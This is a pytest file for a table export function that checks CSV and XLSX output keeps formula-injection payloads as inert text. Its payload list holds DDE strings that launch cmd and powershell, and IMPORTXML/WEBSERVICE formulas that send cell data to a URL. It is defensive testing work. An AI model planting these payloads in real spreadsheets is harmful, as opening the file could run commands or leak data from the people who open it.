"""Formula payloads in cells are exported as text that no spreadsheet runs."""

import csv
import io
import re
import zipfile
from itertools import product

import pytest
from python_calamine import CalamineWorkbook

from core.files.table_export import Column, export

BLANKS = [" ", "\u00a0", "\u3000", "\u2003", "\u200b", "\ufeff"]
STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=+", "-+", "\t", "\r", "@-"]
STARTS += [f"{blank}=" for blank in BLANKS]
REST = [
    "1+1",
    "SUM(A1:A9)",
    'cmd|"/C calc"!A0',
    'HYPERLINK("http://example.org","点此")',
    'IMPORTXML("http://example.org?"&A1,"//a")',
    "WEBSERVICE(A1)",
    "DDE(0;0;0)",
    '2+5+cmd|"/c powershell"!A1',
    "'x",
    '"=1',
    "https://example.org",
    "A1,=B1",
    "A1\n=B1",
    "A1;=B1",
]
SPLIT = [f"甲{separator}{sign}1+1" for separator in (";", "|", "\t", "\n", "\r\n", "; ") for sign in "=+-@＝"]
PAYLOADS = ["".join(pair) for pair in product(STARTS, REST)] + SPLIT
COLUMNS = [Column(label="甲", value=lambda text: text), Column(label="文", value=lambda text: f"a{text}")]


def data_of(kind: str) -> bytes:
    return b"".join(export(name="x", columns=COLUMNS, rows=PAYLOADS, kind=kind))


def test_there_are_enough_of_them():
    assert len(set(PAYLOADS)) >= 200


def test_no_cell_of_a_csv_begins_like_a_formula():
    rows = list(csv.reader(io.StringIO(data_of("csv").decode("utf-8-sig"), newline="")))
    for place in (0, 1):
        plain = ["a" * place + payload for payload in PAYLOADS]
        assert [row[place].replace("'", "") for row in rows[1:]] == [text.replace("'", "") for text in plain]
    assert not [cell for row in rows for cell in row if re.match(r"[=+\-@\t\r\n＝＋－＠]", cell)]
    assert not [
        cell for row in rows for cell in row if re.match(r"[\W\ufeff\u200b]*=", cell.lstrip("'")) and cell[0] != "'"
    ]


@pytest.mark.parametrize("separator", ";|\t")
def test_no_cell_of_a_csv_begins_like_a_formula_where_cells_are_separated_otherwise(separator):
    text = data_of("csv").decode("utf-8-sig")
    cells = [
        cell.strip(' "\u00a0\u3000\u2003\u200b\ufeff') for line in text.splitlines() for cell in line.split(separator)
    ]
    assert not [cell for cell in cells if re.match(r"[=+\-@＝＋－＠]", cell)]


def test_an_xlsx_keeps_them_as_text_without_formulas_or_links():
    with zipfile.ZipFile(io.BytesIO(data_of("xlsx"))) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert not re.search(r"<f[ >]|<hyperlink|<dde|oleObject", sheet)
    assert not [name for name in names if "externalLink" in name or "connections" in name]
    assert set(re.findall(r'<c [^>]*t="(\w+)"', sheet)) == {"inlineStr"}
    assert sheet.count("<c ") == 2 * (len(PAYLOADS) + 1)


def test_an_xlsx_is_read_back_as_the_same_texts():
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data_of("xlsx"))).get_sheet_by_index(0).to_python()
    shown = ["".join(str(row[0]).split()) for row in rows[1:]]
    assert shown == ["".join(payload.split()) for payload in PAYLOADS]


@pytest.mark.parametrize("character", ["\x00", "\x0b", "\ufffe"])
def test_characters_that_xml_cannot_hold_break_no_file(character):
    for kind in ("csv", "xlsx"):
        data = b"".join(export(name="x", columns=COLUMNS, rows=[f"a{character}b"], kind=kind))
        assert len(data) > 10
